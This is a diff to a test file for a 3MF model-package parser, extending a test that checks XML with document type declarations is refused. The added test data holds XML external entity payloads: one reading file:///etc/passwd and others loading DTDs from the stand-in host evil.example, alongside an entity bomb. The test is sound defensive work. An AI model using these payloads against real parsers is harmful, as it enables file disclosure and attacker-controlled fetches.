@@ -161,10 +161,19 @@ describe("packages", () => {
     expect(fault(model(itself), "a.3mf")).toMatchObject({ kind: "unreadable", detail: "components too deep" });
   });
 
-  test("document types, where entity bombs live, are refused", () => {
-    const text = '<!DOCTYPE model [<!ENTITY a "aaaa">]><model>&a;</model>';
-    const bytes = zipSync({ "3D/3dmodel.model": strToU8(text) });
-    expect(fault(bytes, "a.3mf")).toMatchObject({ kind: "unreadable", detail: "document type" });
+  test("document types, where entity bombs and entities from outside live, are refused", () => {
+    for (const text of [
+      '<!DOCTYPE model [<!ENTITY a "aaaa">]><model>&a;</model>',
+      '<!DOCTYPE model [<!ENTITY a SYSTEM "file:///etc/passwd">]><model>&a;</model>',
+      '<!DOCTYPE model [<!ENTITY % a SYSTEM "http://evil.example/a.dtd"> %a;]><model/>',
+      '<!DOCTYPE model PUBLIC "a" "http://evil.example/a.dtd"><model/>',
+    ])
+      expect(fault(zipSync({ "3D/3dmodel.model": strToU8(text) }), "a.3mf"), text).toMatchObject({
+        kind: "unreadable",
+        detail: "document type",
+      });
+    const unknown = zipSync({ "3D/3dmodel.model": strToU8("<model>&a;</model>") });
+    expect(fault(unknown, "a.3mf").kind).toBe("unreadable");
   });
 });
 
